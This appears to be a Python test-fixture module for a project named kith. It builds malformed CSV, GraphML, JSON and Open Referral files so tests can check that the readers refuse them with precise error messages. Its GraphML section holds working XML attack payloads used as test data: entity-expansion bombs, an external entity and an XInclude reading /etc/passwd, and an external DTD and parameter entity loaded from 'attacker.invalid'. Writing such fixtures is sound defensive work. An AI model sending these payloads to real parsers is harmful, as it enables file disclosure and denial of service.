"""Hostile input files, made by code (nothing large is committed).

Each :class:`Hostile` writes one bad file (or a folder holding one bad file among good ones)
into a temporary folder and says what a user must be told: a regular expression that the
error message must match, naming the file and, where it has one, the line, record and field.
The test modules feed them to the readers, the ``kith convert`` command and ``kith
import-assets`` (tests/hostile/test_*.py).
"""

from __future__ import annotations

import codecs
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from kith.formats.limits import DEFAULT_MAX_DOCUMENT_BYTES, DEFAULT_MAX_TABLE_BYTES

Maker = Callable[[Path], Path]


@dataclass(frozen=True)
class Hostile:
    """One hostile input: ``make(folder)`` writes it and returns the path to read."""

    name: str
    make: Maker
    message: str  # regular expression the error must match (re.search)


def sparse(path: Path, size: int, head: bytes = b"") -> Path:
    """A file of ``size`` bytes that takes no disk space (a hole after ``head``).

    The readers refuse a file by its size before reading a byte, so a file one byte over the
    documented default limit costs nothing to make.
    """
    with path.open("wb") as fh:
        fh.write(head)
        fh.truncate(size)
    return path


# -- egor tables ---------------------------------------------------------------------------------

EGOS = ".egoID,sex\n1,f\n2,m\n"
ALTERS = ".egoID,.altID,label,circle\n1,a,Ann,1\n1,b,Bob,2\n2,a,Cy,3\n"
TIES = ".egoID,.srcID,.tgtID\n1,a,b\n"


def egor(alters: str | bytes = ALTERS, egos: str | bytes = EGOS, ties: str | bytes = TIES) -> Maker:
    def make(folder: Path) -> Path:
        root = folder / "study"
        root.mkdir()
        for name, text in (("egos.csv", egos), ("alters.csv", alters), ("ties.csv", ties)):
            (root / name).write_bytes(text.encode() if isinstance(text, str) else text)
        return root

    return make


def egor_huge(folder: Path) -> Path:
    root = egor()(folder)
    sparse(root / "alters.csv", DEFAULT_MAX_TABLE_BYTES + 1, ALTERS.encode())
    return root


# -- Network Canvas CSV --------------------------------------------------------------------------

NC_EGO = (
    "networkCanvasEgoUUID,networkCanvasCaseID,networkCanvasSessionID,networkCanvasProtocolName,"
    "sessionStart,sessionFinish,sessionExported\n"
    "ego-1,P001,s-1,Study,2024-01-01T10:00:00.000Z,2024-01-01T11:00:00.000Z,"
    "2024-01-01T11:00:00.000Z\n"
)
NC_NODES = "nodeID,networkCanvasEgoUUID,networkCanvasUUID,name\n1,ego-1,n-1,Ann\n2,ego-1,n-2,Bob\n"
NC_EDGES = (
    "edgeID,networkCanvasEgoUUID,networkCanvasUUID,networkCanvasSourceUUID,"
    "networkCanvasTargetUUID,from,to\n1,ego-1,e-1,n-1,n-2,1,2\n"
)


def netcanvas(
    nodes: str | bytes = NC_NODES, edges: str | bytes = NC_EDGES, ego: str | bytes = NC_EGO
) -> Maker:
    def make(folder: Path) -> Path:
        root = folder / "export"
        root.mkdir()
        files = {
            "P001_s-1_ego.csv": ego,
            "P001_s-1_attributeList_Person.csv": nodes,
            "P001_s-1_edgeList_knows.csv": edges,
        }
        for name, text in files.items():
            (root / name).write_bytes(text.encode() if isinstance(text, str) else text)
        return root

    return make


def netcanvas_huge(folder: Path) -> Path:
    root = netcanvas()(folder)
    sparse(root / "P001_s-1_attributeList_Person.csv", DEFAULT_MAX_TABLE_BYTES + 1)
    return root


# -- GraphML -------------------------------------------------------------------------------------

GRAPHML_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
    '  <key id="circle" for="node" attr.name="circle" attr.type="int"/>\n'
)


def graphml_body(nodes: str, edges: str = "") -> str:
    return f'{GRAPHML_HEAD}  <graph id="p1" edgedefault="undirected">\n{nodes}{edges}  </graph>\n</graphml>\n'


GOOD_NODES = '    <node id="a"/>\n    <node id="b"/>\n'


def file_of(name: str, content: str | bytes) -> Maker:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    return make


def sparse_file(name: str, size: int, head: bytes = b"") -> Maker:
    def make(folder: Path) -> Path:
        return sparse(folder / name, size, head)

    return make


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE graphml [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph id="g">'
    '<node id="&lol9;"/></graph></graphml>\n'
)
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY a "'
    + "x" * 50_000
    + '">]>\n<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph id="g"><node id="'
    + "&a;" * 5_000
    + '"/></graph></graphml>\n'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph id="g">'
    '<node id="&secret;"/></graph></graphml>\n'
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE graphml SYSTEM "http://attacker.invalid/graphml.dtd">\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph id="g"/></graphml>\n'
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY % remote SYSTEM '
    '"http://attacker.invalid/x.dtd"> %remote;]>\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph id="g"/></graphml>\n'
)
XINCLUDE = (
    '<?xml version="1.0"?>\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" '
    'xmlns:xi="http://www.w3.org/2001/XInclude">\n'
    '  <graph id="g" edgedefault="undirected">\n'
    '    <xi:include href="file:///etc/passwd" parse="text"/>\n'
    '    <node id="a"/>\n  </graph>\n</graphml>\n'
)
NC_GRAPHML_BOMB = BILLION_LAUGHS.replace(
    'xmlns="http://graphml.graphdrawing.org/xmlns"',
    'xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:nc="http://schema.networkcanvas.com/xmlns"',
)


# -- Kith JSON -----------------------------------------------------------------------------------


def kith_map(members: list[object], ties: list[object] | None = None) -> str:
    return json.dumps({"ego_id": "p1", "members": members, "ties": ties or []})


DEEP_JSON = '{"ego_id": "p1", "members": ' + ("[" * 5000 + "]" * 5000) + "}"


# -- HSDS ----------------------------------------------------------------------------------------

HSDS_SERVICES = "id,organization_id,name,status\ns1,o1,Walking group,active\n"
HSDS_ORGS = "id,name,description\no1,Friends of the park,Volunteers\n"
HSDS_LOCATIONS = "id,name,location_type\nl1,The park,physical\n"
HSDS_SAL = "id,service_id,location_id\nsal1,s1,l1\n"


def hsds_csv(**files: str | bytes) -> Maker:
    contents: dict[str, str | bytes] = {
        "services.csv": HSDS_SERVICES,
        "organizations.csv": HSDS_ORGS,
        "locations.csv": HSDS_LOCATIONS,
        "service_at_location.csv": HSDS_SAL,
    }
    contents.update({k.replace("__", "."): v for k, v in files.items()})

    def make(folder: Path) -> Path:
        root = folder / "package"
        root.mkdir()
        for name, text in contents.items():
            (root / name).write_bytes(text.encode() if isinstance(text, str) else text)
        return root

    return make


def hsds_csv_huge(folder: Path) -> Path:
    root = hsds_csv()(folder)
    sparse(root / "services.csv", DEFAULT_MAX_TABLE_BYTES + 1, HSDS_SERVICES.encode())
    return root


HSDS_SERVICE = {
    "id": "s1",
    "name": "Walking group",
    "status": "active",
    "organization": {"id": "o1", "name": "Friends of the park", "description": "Volunteers"},
}


def hsds_json(value: object) -> str:
    return json.dumps(value)


# -- the list ------------------------------------------------------------------------------------

UTF16_BOM = codecs.BOM_UTF16_LE

# Files read as maps (egor, Network Canvas, GraphML, Kith JSON): `kith convert` must refuse them.
MAP_FILES: list[Hostile] = [
    # egor tables
    Hostile(
        "egor-utf16-no-bom",
        egor(alters=ALTERS.encode("utf-16-le")),
        r"alters\.csv, line 1: NUL byte",
    ),
    Hostile(
        "egor-utf16-bom",
        egor(egos=UTF16_BOM + EGOS.encode("utf-16-le")),
        r"egos\.csv, line 1: the file is UTF-16",
    ),
    Hostile(
        "egor-latin1",
        egor(alters=".egoID,.altID,label\n1,a,Ann\n1,b,Zo\xeb\n".encode("latin-1")),
        r"alters\.csv, line 3: bytes that are not UTF-8",
    ),
    Hostile(
        "egor-nul-byte",
        egor(alters=b".egoID,.altID,label\n1,a,Ann\n1,b,B\x00b\n"),
        r"alters\.csv, line 3: NUL byte",
    ),
    Hostile(
        "egor-double-bom",
        egor(egos=codecs.BOM_UTF8 * 2 + EGOS.encode()),
        r"egos\.csv, line 1, field '\.egoID': missing column",
    ),
    Hostile(
        "egor-huge",
        egor_huge,
        r"alters\.csv: the file is 1,073\.7 MB, over the limit of 1,073\.7 MB",
    ),
    Hostile(
        "egor-tie-to-missing-member",
        egor(ties=".egoID,.srcID,.tgtID\n1,a,zz\n"),
        r"ties\.csv, line 2, field '\.tgtID': .*'zz'",
    ),
    Hostile(
        "egor-duplicate-ego",
        egor(egos=".egoID\n1\n2\n1\n"),
        r"egos\.csv, line 4, field '\.egoID': ego id '1' appears more than once",
    ),
    Hostile(
        "egor-duplicate-alter",
        egor(alters=".egoID,.altID\n1,a\n1,a\n"),
        r"alters\.csv, line 3, field '\.altID': .*'a'",
    ),
    Hostile(
        "egor-wrong-type",
        egor(alters=".egoID,.altID,circle\n1,a,1\n1,b,four\n"),
        r"alters\.csv, line 3, field 'circle': 'four' is not a circle",
    ),
    Hostile(
        "egor-truncated",
        egor(alters=ALTERS[:-8]),
        r"alters\.csv, line 4: has 1 fields; the header has 4",
    ),
    Hostile("egor-empty", egor(egos=""), r"egos\.csv: the file is empty"),
    # Network Canvas CSV
    Hostile(
        "netcanvas-edge-to-missing-node",
        netcanvas(edges=NC_EDGES.replace("n-1,n-2", "n-1,n-9")),
        r"edgeList_knows\.csv, line 2, field 'networkCanvasTargetUUID'",
    ),
    Hostile(
        "netcanvas-duplicate-node",
        netcanvas(nodes=NC_NODES.replace("n-2", "n-1")),
        r"attributeList_Person\.csv, line 3, field 'networkCanvasUUID'",
    ),
    Hostile(
        "netcanvas-latin1",
        netcanvas(nodes=NC_NODES.replace("Bob", "Zo\xeb").encode("latin-1")),
        r"attributeList_Person\.csv, line 3: byte 0xeb is not UTF-8",
    ),
    Hostile(
        "netcanvas-utf16",
        netcanvas(ego=UTF16_BOM + NC_EGO.encode("utf-16-le")),
        r"_ego\.csv, line 1: the file is UTF-16",
    ),
    Hostile(
        "netcanvas-huge",
        netcanvas_huge,
        r"attributeList_Person\.csv: the file is 1,073\.7 MB, over the limit",
    ),
    # GraphML
    Hostile(
        "graphml-billion-laughs",
        file_of("bomb.graphml", BILLION_LAUGHS),
        r"bomb\.graphml, line \d+: refused: the file declares the entity 'lol'",
    ),
    Hostile(
        "graphml-quadratic-blowup",
        file_of("blowup.graphml", QUADRATIC),
        r"blowup\.graphml, line \d+: refused: the file declares the entity 'a'",
    ),
    Hostile(
        "graphml-external-entity",
        file_of("xxe.graphml", EXTERNAL_ENTITY),
        r"xxe\.graphml, line \d+: refused: the file declares the entity 'secret'",
    ),
    Hostile(
        "graphml-external-dtd",
        file_of("dtd.graphml", EXTERNAL_DTD),
        r"dtd\.graphml, line 2: refused: the file refers to an external resource",
    ),
    Hostile(
        "graphml-parameter-entity",
        file_of("pe.graphml", PARAMETER_ENTITY),
        r"pe\.graphml, line \d+: refused: the file declares the entity 'remote'",
    ),
    Hostile(
        "graphml-xinclude",
        file_of("xi.graphml", XINCLUDE),
        r"xi\.graphml, line 4: refused: XInclude",
    ),
    Hostile(
        "graphml-duplicate-node",
        file_of("dup.graphml", graphml_body('    <node id="a"/>\n    <node id="a"/>\n')),
        r"dup\.graphml, line 6.*'a'",
    ),
    Hostile(
        "graphml-edge-to-missing-node",
        file_of("edge.graphml", graphml_body(GOOD_NODES, '    <edge source="a" target="zz"/>\n')),
        r"edge\.graphml, line 7.*'zz'",
    ),
    Hostile(
        "graphml-wrong-type",
        file_of(
            "type.graphml",
            graphml_body('    <node id="a"><data key="circle">inner</data></node>\n'),
        ),
        r"type\.graphml, line 5, field 'circle'",
    ),
    Hostile(
        "graphml-truncated",
        file_of("cut.graphml", graphml_body(GOOD_NODES)[:-40]),
        r"cut\.graphml, line \d+: not well-formed XML",
    ),
    Hostile(
        "graphml-empty",
        file_of("empty.graphml", ""),
        r"empty\.graphml, line 1: not well-formed XML: no element found",
    ),
    Hostile(
        "graphml-utf16-no-declaration",
        file_of(
            "wide.graphml",
            graphml_body(GOOD_NODES).replace(' encoding="UTF-8"', "").encode("utf-16-le"),
        ),
        r"wide\.graphml, line 1: the file is UTF-16 without a byte-order mark",
    ),
    Hostile(
        "graphml-huge",
        sparse_file("huge.graphml", DEFAULT_MAX_DOCUMENT_BYTES + 1, b"<graphml>"),
        r"huge\.graphml: the file is 268\.4 MB, over the limit of 268\.4 MB",
    ),
    Hostile(
        "netcanvas-graphml-billion-laughs",
        file_of("nc.graphml", NC_GRAPHML_BOMB),
        r"nc\.graphml, line \d+: refused: the file declares the entity 'lol'",
    ),
    # Kith JSON
    Hostile(
        "json-deeply-nested",
        file_of("deep.json", DEEP_JSON),
        r"deep\.json: arrays and objects are nested more than 64 levels deep",
    ),
    Hostile(
        "json-duplicate-member",
        file_of("dup.json", kith_map([{"key": "a"}, {"key": "a"}])),
        r"dup\.json, record members\[1\], field 'key'",
    ),
    Hostile(
        "json-tie-to-missing-member",
        file_of("tie.json", kith_map([{"key": "a"}], [{"a": "a", "b": "zz"}])),
        r"tie\.json, record ties\[0\], field 'b': the tie names member 'zz', which is not on the map",
    ),
    Hostile(
        "json-wrong-type",
        file_of("type.json", kith_map([{"key": "a", "circle": "inner"}])),
        r"type\.json, record members\[0\], field 'circle'",
    ),
    Hostile(
        "json-duplicate-name",
        file_of("name.json", '{"ego_id": "p1", "ego_id": "p2", "members": []}'),
        r"name\.json: not valid Kith JSON: the name 'ego_id' appears twice",
    ),
    Hostile(
        "json-truncated",
        file_of("cut.json", kith_map([{"key": "a"}])[:-5]),
        r"cut\.json, line 1: not valid JSON",
    ),
    Hostile(
        "json-empty",
        file_of("empty.json", ""),
        r"empty\.json, line 1: not valid JSON: Expecting value",
    ),
    Hostile(
        "json-latin1",
        file_of(
            "latin.json",
            kith_map([{"key": "a", "label": "Zo\xeb"}])
            .replace("\\u00eb", "\xeb")
            .encode("latin-1"),
        ),
        r"latin\.json, line 1: byte 0xeb is not UTF-8",
    ),
    Hostile(
        "json-utf16",
        file_of("wide.json", kith_map([{"key": "a"}]).encode("utf-16")),
        r"wide\.json, line 1: the file is UTF-16",
    ),
    Hostile(
        "json-huge",
        sparse_file("huge.json", DEFAULT_MAX_DOCUMENT_BYTES + 1, b"{"),
        r"huge\.json: the file is 268\.4 MB, over the limit",
    ),
]

# Open Referral sources: `kith import-assets` must refuse them and write nothing.
HSDS_FILES: list[Hostile] = [
    Hostile(
        "hsds-json-wrong-type",
        file_of("service.json", hsds_json(dict(HSDS_SERVICE, minimum_age="ten"))),
        r"service\.json, record \$, field 'minimum_age': expected a number, found the string 'ten'",
    ),
    Hostile(
        "hsds-json-duplicate-id",
        file_of("service_list.json", hsds_json([HSDS_SERVICE, dict(HSDS_SERVICE, name="Other")])),
        r"service_list\.json, record \$\[1\], field 'name': service s1 appears twice with different values for 'name': 'Walking group' at \$\[0\] and 'Other' at \$\[1\]",
    ),
    Hostile(
        "hsds-json-deeply-nested",
        file_of("service.json", '{"id": "s1", "extra": ' + "[" * 3000 + "]" * 3000 + "}"),
        r"service\.json: arrays and objects are nested more than 64 levels deep",
    ),
    Hostile(
        "hsds-json-latin1",
        file_of(
            "service.json",
            hsds_json(dict(HSDS_SERVICE, name="Caf\xe9"))
            .replace("\\u00e9", "\xe9")
            .encode("latin-1"),
        ),
        r"service\.json, line 1: byte 0xe9 .*is not UTF-8",
    ),
    Hostile(
        "hsds-json-utf16",
        file_of("service.json", hsds_json(HSDS_SERVICE).encode("utf-16")),
        r"service\.json, line 1: the file is UTF-16",
    ),
    Hostile(
        "hsds-json-truncated",
        file_of("service.json", hsds_json(HSDS_SERVICE)[:-10]),
        r"service\.json, line 1: not valid JSON",
    ),
    Hostile(
        "hsds-json-empty", file_of("service.json", ""), r"service\.json, line 1: not valid JSON"
    ),
    Hostile(
        "hsds-json-huge",
        sparse_file("service.json", DEFAULT_MAX_DOCUMENT_BYTES + 1, b"{"),
        r"service\.json: the file is 268\.4 MB, over the limit",
    ),
    Hostile(
        "hsds-csv-wrong-type",
        hsds_csv(locations__csv="id,name,latitude\nl1,The park,north\n"),
        r"locations\.csv, line 2, field 'latitude': expected a number, found 'north'",
    ),
    Hostile(
        "hsds-csv-duplicate-id",
        hsds_csv(services__csv=HSDS_SERVICES + "s1,o1,Running group,active\n"),
        r"services\.csv, line 3, field 'name': service s1 appears twice with different values",
    ),
    Hostile(
        "hsds-csv-utf16",
        hsds_csv(services__csv=UTF16_BOM + HSDS_SERVICES.encode("utf-16-le")),
        r"services\.csv, line 1: the file is UTF-16",
    ),
    Hostile(
        "hsds-csv-nul",
        hsds_csv(organizations__csv=b"id,name\no1,Fr\x00iends\n"),
        r"organizations\.csv, line 2: NUL byte",
    ),
    Hostile(
        "hsds-csv-truncated",
        hsds_csv(services__csv='id,organization_id,name,status\ns1,o1,"Walking group\n'),
        r"services\.csv, line 2: not valid CSV: unexpected end of data",
    ),
    Hostile(
        "hsds-csv-huge", hsds_csv_huge, r"services\.csv: the file is 1,073\.7 MB, over the limit"
    ),
]

# Read with the HSDS CSV reader's default (dangling references are errors there).
HSDS_DANGLING = Hostile(
    "hsds-csv-service-at-missing-location",
    hsds_csv(service_at_location__csv="id,service_id,location_id\nsal1,s1,l9\n"),
    r"service_at_location\.csv, line 2, field 'location_id': refers to l9, which is not in the package",
)

ALL = [*MAP_FILES, *HSDS_FILES, HSDS_DANGLING]
assert len({h.name for h in ALL}) == len(ALL), "hostile file names must be unique"
